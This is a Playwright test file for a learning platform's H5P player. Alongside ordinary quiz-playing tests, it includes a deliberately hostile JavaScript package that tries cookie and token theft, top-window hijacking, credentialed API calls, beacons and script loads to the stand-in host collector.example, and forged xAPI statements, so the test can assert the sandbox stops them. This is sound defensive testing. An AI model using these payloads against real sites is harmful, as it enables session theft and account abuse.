"""Interactive content as participants meet it, and as hostile packages would like to."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from playwright.sync_api import Browser, BrowserContext, FrameLocator, Page, expect

from lms.programme.models import Enrolment
from modules.models import ActivityProgress, H5PResult, H5PState, H5PStatement
from tests.browser.conftest import PATIENCE, SignIn
from tests.browser.playing import frame_of, player_of, until
from tests.factories import h5p_playing as h5p

pytestmark = pytest.mark.usefixtures("quick_bundles")


def test_own_questions_are_played_marked_resumed_and_done(
    page: Page, browser: Browser, sign_in: SignIn, enrolment: Enrolment, lesson: Any
) -> None:
    activity = h5p.make_interactive(lesson, rule="score", threshold=100)
    sign_in(enrolment.user)
    page.goto(activity.public_path())
    player = player_of(page)

    player.get_by_label("Rhône").check()
    player.get_by_role("button", name="Check").click()
    expect(player.locator(".rq-told")).to_contain_text("Not right")
    (wrong,) = H5PStatement.objects.filter(is_marked_here=True)
    assert (wrong.raw, wrong.response) == (0, "rhone")
    player.get_by_role("button", name="Next").click()
    player.get_by_label("Paris").check()
    until(
        page, lambda: "paris" in "".join(H5PState.objects.values_list("data", flat=True)), "state"
    )

    # The same person on another page load goes on where they were.
    page.reload()
    expect(player.locator(".rq-count")).to_have_text("Question 2 of 2")
    expect(player.get_by_label("Paris")).to_be_checked()
    player.get_by_label("Rome").check()
    player.get_by_role("button", name="Check").click()
    expect(player.locator(".rq-told")).to_contain_text("Right")
    player.get_by_role("button", name="Question 1 of 2: Not right").click()
    player.get_by_role("button", name="Try again").click()
    player.get_by_label("Seine").check()
    player.get_by_role("button", name="Check").click()

    # Nobody pressed “Mark as done”; the page knows without being loaded again.
    expect(page.locator("#done")).to_contain_text("every activity")
    assert ActivityProgress.objects.get().status == "done"
    result = H5PResult.objects.get()
    assert (result.percent, result.best_raw, result.best_max) == (100, 3, 3)


def test_an_ended_session_keeps_the_answers_on_the_device(
    page: Page, context: BrowserContext, sign_in: SignIn, enrolment: Enrolment, lesson: Any
) -> None:
    script = """function () {
      H5P.EventDispatcher.call(this);
      this.attach = function ($container) {
        var player = this;
        $container.append('<button>Finish</button>').find('button').on('click', function () {
          player.triggerXAPIScored(3, 4, 'completed', true, true);
        });
      };
    }"""
    activity = h5p.make_interactive(lesson, h5p=h5p.upload(h5p.package(script)))
    sign_in(enrolment.user)
    page.goto(activity.public_path())
    frame_of(page)
    context.clear_cookies()
    player_of(page).get_by_role("button", name="Finish").click()
    line = page.locator("[data-h5p-state]")
    expect(line).to_contain_text("You are signed out. Your answers are kept")
    assert not H5PResult.objects.filter(best_scaled__isnull=False).exists()

    sign_in(enrolment.user)
    page.goto(activity.public_path())

    expect(page.locator("#done")).to_contain_text("every activity")
    assert H5PResult.objects.get().percent == 75


HOSTILE = """function () {
  H5P.EventDispatcher.call(this);
  this.attach = function ($container) {
    var tried = window.tried = {};
    function attempt(name, act) {
      try { tried[name] = 'worked: ' + act(); } catch (refused) { tried[name] = 'refused'; }
    }
    function ask(name, url, options) {
      tried[name] = 'waiting';
      try {
        fetch(url, options).then(
          function (answer) { tried[name] = 'worked: ' + answer.type + answer.status; },
          function () { tried[name] = 'refused'; });
      } catch (refused) { tried[name] = 'refused'; }
    }
    var home = HOME;
    attempt('cookie', function () {
      var real = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get;
      return real.call(document);
    });
    attempt('storage', function () {
      return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window);
    });
    attempt('parent', function () { return window.parent.document.cookie; });
    attempt('parent storage', function () { return window.parent.localStorage.length; });
    attempt('top', function () { window.top.location = home + '/stolen/'; return 'sent'; });
    attempt('top replaced', function () {
      window.top.location.replace(home + '/stolen/'); return 'sent';
    });
    attempt('open top', function () {
      window.open(home + '/stolen/', '_top'); return 'asked';
    });
    attempt('token', function () { return window.parent.document.querySelector('input').value; });
    ask('api', home + '/api/v1/me/', { credentials: 'include' });
    ask('page', home + '/', { credentials: 'include', mode: 'no-cors' });
    ask('post', STATEMENTS, { method: 'POST', credentials: 'include', mode: 'no-cors',
      body: JSON.stringify({ verb: { id: 'http://adlnet.gov/expapi/verbs/completed' } }) });
    ask('elsewhere', 'https://collector.example/?c=1', { mode: 'no-cors' });
    attempt('form', function () {
      var form = document.createElement('form');
      form.method = 'post'; form.action = home + '/accounts/logout/'; form.target = '_self';
      document.body.append(form); form.submit(); return 'sent';
    });
    attempt('frame', function () {
      var inner = document.createElement('iframe'); inner.src = home + '/';
      inner.id = 'inner'; document.body.append(inner);
      return 'put in';
    });
    var image = new Image();
    image.onload = function () { tried.image = 'worked'; };
    image.onerror = function () { tried.image = 'refused'; };
    image.src = 'https://collector.example/pixel.png?' + encodeURIComponent(location.href);
    // The nonce is known to whoever runs here; what carries it may not come from elsewhere.
    [['script', 'src', ''], ['link', 'href', 'modulepreload'], ['link', 'href', 'preload']]
      .forEach(function (kind) {
        var element = document.createElement(kind[0]);
        element.nonce = document.querySelector('script').nonce;
        if (kind[2]) { element.rel = kind[2]; element.as = 'script'; }
        element.onload = function () { tried[kind.join(' ')] = 'worked'; };
        element[kind[1]] = 'https://collector.example/' + kind.join('-') + '.js?stolen';
        document.head.append(element);
      });
    attempt('worker', function () { new SharedWorker(home + '/static/app.js'); return 'made'; });
    attempt('service worker', function () { return navigator.serviceWorker.controller; });
    // As the bridge would say it: about another activity, as another person, as nonsense.
    var token = H5PIntegration.bridge.token;
    function say(statement) {
      window.parent.postMessage(
        { from: 'h5p-frame', token: token, kind: 'xapi', statement: statement }, '*');
    }
    say({ actor: { mbox: 'mailto:victim@example.org' },
          verb: { id: 'http://adlnet.gov/expapi/verbs/completed' },
          object: { id: OTHER }, result: { completion: true, score: { raw: 1, max: 1 } } });
    say({ verb: 7, object: [] });
    say('x'.repeat(200000));
    window.parent.postMessage({ from: 'h5p-frame', token: 'guessed', kind: 'resize',
                                height: 1 }, '*');
    window.parent.postMessage({ from: 'h5p-frame', token: token, kind: 'resize',
                                height: 1e9 }, '*');
    window.parent.postMessage({ from: 'h5p-frame', token: token, kind: 'state',
      dataType: 'state', subContentId: '0', data: { not: 'text' } }, '*');
    $container.append('<a href="' + home + '/stolen/" target="_top">Out</a>');
    $container.append('<a href="https://collector.example/" target="_self">Away</a>');
  };
}"""


def test_a_hostile_package_gets_nowhere(
    context: BrowserContext, live_server: Any, sign_in: SignIn, enrolment: Enrolment, lesson: Any
) -> None:
    other = h5p.make_interactive(
        lesson, h5p=h5p.upload(h5p.package("function () {}", "Test.Plain"))
    )
    script = (
        HOSTILE.replace("HOME", json.dumps(live_server.url))
        .replace("STATEMENTS", json.dumps(f"{live_server.url}/api/v1/activities/1/statements/"))
        .replace("OTHER", json.dumps(f"{django_settings.SITE_URL}/xapi/activities/{other.pk}"))
    )
    activity = h5p.make_interactive(lesson, h5p=h5p.upload(h5p.package(script)))
    sign_in(enrolment.user)
    page = context.new_page()
    asked: list[tuple[str, str, dict[str, str]]] = []
    # What the policy stops is announced as a request too: only what was sent counts.
    page.on("requestfinished", lambda r: asked.append((r.method, r.url, r.all_headers())))
    address = live_server.url + activity.public_path()
    page.goto(address)
    frame = frame_of(page)
    until(page, lambda: "waiting" not in frame.evaluate("Object.values(tried)"), "attempts")
    page.wait_for_timeout(800)

    tried = frame.evaluate("tried")
    outcomes = {name: said for name, said in tried.items() if said.startswith("worked")}
    # These say nothing by themselves; what came of them is looked at below.
    for name in ("form", "frame", "open top", "service worker"):
        outcomes.pop(name, None)
    assert outcomes == {}
    assert page.url == address
    assert frame.evaluate("window.origin") == "null"
    # No request went to another place, and none to ours with the reader's cookie.
    from_frame = [
        (method, url, headers)
        for method, url, headers in asked
        if headers.get("origin") == "null" or "collector" in url
    ]
    assert [
        url for _m, url, _h in from_frame if not url.startswith(f"{live_server.url}/h5p/")
    ] == []
    assert [url for _m, url, headers in from_frame if "cookie" in headers] == []
    assert not any(url.endswith("/stolen/") for _m, url, _h in asked)
    assert page.evaluate("document.querySelector('.interactive__frame').offsetHeight") < 12_100
    # What it said in the reader's name is about this activity or refused.
    assert not H5PStatement.objects.filter(activity=other).exists()
    assert set(H5PStatement.objects.values_list("verb", flat=True)) <= {"attempted"}
    assert not ActivityProgress.objects.filter(status="done").exists()
    assert not H5PState.objects.exists()

    # Clicks of the reader do not lead out either.
    frame.get_by_text("Out").click()
    frame.get_by_text("Away").click()
    page.wait_for_timeout(500)
    assert page.url == address
    assert not any("collector" in url or url.endswith("/stolen/") for _m, url, _h in asked)
    assert page.evaluate("document.cookie").find("csrftoken") >= 0
    page.goto(f"{live_server.url}/")
    expect(page.get_by_text("Sign out").first).to_be_attached()


Steps = Callable[[FrameLocator], None]


def _fill_blanks(player: FrameLocator) -> None:
    for field in player.locator(".h5p-text-input").all():
        field.fill("an answer")
        field.press("Enter")
    check = player.locator(".h5p-question-check-answer:visible")
    if check.count():
        check.click()


def _choose(player: FrameLocator) -> None:
    player.locator(".h5p-answer").first.click()
    player.locator(".h5p-question-check-answer").click()


def _summarise(player: FrameLocator) -> None:
    # The player moves its statements about meanwhile, so they are clicked from inside.
    player.locator("body").evaluate(
        """() => new Promise((done) => {
          const step = () => {
            const left = [...document.querySelectorAll('.summary-claim-unclicked')]
              .filter((claim) => claim.offsetParent);
            if (!left.length) return done();
            left[0].click();
            setTimeout(step, 700);
          };
          step();
        })"""
    )


def _write(player: FrameLocator) -> None:
    player.locator("textarea").fill("Words enough to be read by the player. " * 5)
    player.locator(".h5p-question-check-answer").click()


def _say_true(player: FrameLocator) -> None:
    player.locator(".h5p-true-false-answer").first.click()
    player.locator(".h5p-question-check-answer").click()


def _check_only(player: FrameLocator) -> None:
    player.locator(".h5p-question-check-answer").first.click()


REAL: dict[str, Steps] = {
    "jamestagal__H5P.MultiChoice-1.16": _choose,
    "moodle__multiple-choice-2-6": _choose,
    "jamestagal__H5P.Blanks-1.14": _fill_blanks,
    "moodle__filltheblanks": _fill_blanks,
    "jamestagal__H5P.Summary-1.10": _summarise,
    "moodle__basic_essay": _write,
    "moodle__drag": _check_only,
    "tunapanda__h5p-test": _say_true,
}


def test_real_packages_are_played_to_a_recorded_result(
    packages: Path, context: BrowserContext, sign_in: SignIn, enrolment: Enrolment, lesson: Any
) -> None:
    context.set_default_timeout(PATIENCE)
    sign_in(enrolment.user)
    page = context.new_page()
    played = {}
    for name, steps in REAL.items():
        content = h5p.upload((packages / "valid" / f"{name}.h5p").read_bytes())
        activity = h5p.make_interactive(lesson, h5p=content)
        page.goto(activity.public_path())
        frame_of(page)
        steps(player_of(page))
        results = H5PResult.objects.filter(activity=activity, completed_at__isnull=False)
        until(page, results.exists, name)
        played[name] = results.get().answered
    assert all(played.values())
    assert not H5PStatement.objects.filter(statement__actor__isnull=False).exists()
